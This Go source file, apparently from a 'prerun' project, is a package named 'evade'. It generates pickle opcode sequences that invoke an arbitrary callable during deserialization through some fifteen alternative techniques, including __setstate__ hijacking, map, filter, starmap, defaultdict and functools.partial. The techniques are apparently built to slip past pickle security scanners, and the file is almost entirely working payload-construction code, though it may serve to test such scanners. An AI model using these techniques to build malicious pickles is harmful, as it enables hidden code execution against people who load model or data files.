package evade

import (
	"iter"
	"maps"
	"slices"

	"github.com/prerun/prerun/internal/pickle"
)

// sorted yields a map by key.
func sorted[V any](m map[string]V) iter.Seq2[string, V] {
	return func(yield func(string, V) bool) {
		for _, k := range slices.Sorted(maps.Keys(m)) {
			if !yield(k, m[k]) {
				return
			}
		}
	}
}

// holder is a class of the standard library whose attributes can be set and
// whose instances run nothing.
var holder = global("argparse", "Namespace")

// calls are ways to call what lies on the stack.
func calls() []Technique {
	way := func(name, row string, f func(callee []Instruction, argument Instruction) []Instruction) Technique {
		return Technique{Name: name, Row: row, Takes: Callee, Gives: Code, Apply: func(d *Draft) {
			d.Code = f(d.Code, str(d.Call.Argument))
		}}
	}
	// consume calls module.name(callable, [argument]) and exhausts what it returns.
	consume := func(module, name string, items ...Instruction) func([]Instruction, Instruction) []Instruction {
		return func(callee []Instruction, argument Instruction) []Instruction {
			list := join(op(pickle.OpMark), argument, items, op(pickle.OpList))
			return reduce("collections", "deque", reduce(module, name, join(callee, list)...)...)
		}
	}
	// methods hangs the callable under names of holder.
	methods := func(callee []Instruction, names ...string) []Instruction {
		k := &key{90}
		var set []Instruction
		for i, name := range names {
			set = join(set, str(name))
			if i == 0 {
				set = join(set, callee, put(pickle.OpBinput, k), op(pickle.OpSetitem))
			} else {
				set = join(set, get(pickle.OpBinget, k), op(pickle.OpSetitem))
			}
		}
		return join(holder, op(pickle.OpNone), op(pickle.OpEmptyDict), set, op(pickle.OpTuple2), op(pickle.OpBuild), op(pickle.OpPop))
	}
	instance := join(op(pickle.OpMark), holder, op(pickle.OpObj))
	return []Technique{
		way("reduce", "4.1", func(callee []Instruction, argument Instruction) []Instruction {
			return join(callee, argument, op(pickle.OpTuple1), op(pickle.OpReduce))
		}),
		way("obj", "4.4#5", func(callee []Instruction, argument Instruction) []Instruction {
			return join(op(pickle.OpMark), callee, argument, op(pickle.OpObj))
		}),
		way("newobj", "4.4#5", func(callee []Instruction, argument Instruction) []Instruction {
			return join(callee, argument, op(pickle.OpTuple1), op(pickle.OpNewobj))
		}),
		way("newobj-ex", "4.4#5", func(callee []Instruction, argument Instruction) []Instruction {
			return join(callee, argument, op(pickle.OpTuple1), op(pickle.OpEmptyDict), op(pickle.OpNewobjEx))
		}),
		way("list-for-arguments", "4.1", func(callee []Instruction, argument Instruction) []Instruction {
			return join(callee, op(pickle.OpEmptyList), argument, op(pickle.OpAppend), op(pickle.OpReduce))
		}),
		way("setstate", "4.4#6", func(callee []Instruction, argument Instruction) []Instruction {
			return join(methods(callee, "__setstate__"), instance, argument, op(pickle.OpBuild))
		}),
		way("append-method", "4.4#6", func(callee []Instruction, argument Instruction) []Instruction {
			return join(methods(callee, "append", "extend"), instance, argument, op(pickle.OpAppend))
		}),
		way("setitem-method", "4.4#6", func(callee []Instruction, argument Instruction) []Instruction {
			return join(methods(callee, "__setitem__"), instance, argument, argument, op(pickle.OpSetitem))
		}),
		way("map", "4.4#32", consume("builtins", "map")),
		way("filter", "4.4#32", consume("builtins", "filter")),
		way("starmap", "4.4#32", func(callee []Instruction, argument Instruction) []Instruction {
			list := join(op(pickle.OpMark), argument, op(pickle.OpTuple1), op(pickle.OpList))
			return reduce("collections", "deque", reduce("itertools", "starmap", join(callee, list)...)...)
		}),
		way("functools-reduce", "4.4#32", func(callee []Instruction, argument Instruction) []Instruction {
			return reduce("functools", "reduce", join(callee, op(pickle.OpMark), argument, argument, op(pickle.OpList))...)
		}),
		way("iter-sentinel", "4.4#32", func(callee []Instruction, _ Instruction) []Instruction {
			return reduce("collections", "deque", reduce("builtins", "iter", join(callee, op(pickle.OpNone))...)...)
		}),
		way("defaultdict", "4.4#32", func(callee []Instruction, argument Instruction) []Instruction {
			return reduce("operator", "getitem", join(reduce("collections", "defaultdict", callee...), argument)...)
		}),
		way("called-partial", "4.4#26", func(callee []Instruction, argument Instruction) []Instruction {
			return join(reduce("functools", "partial", join(callee, argument)...), op(pickle.OpEmptyTuple), op(pickle.OpReduce))
		}),
	}
}
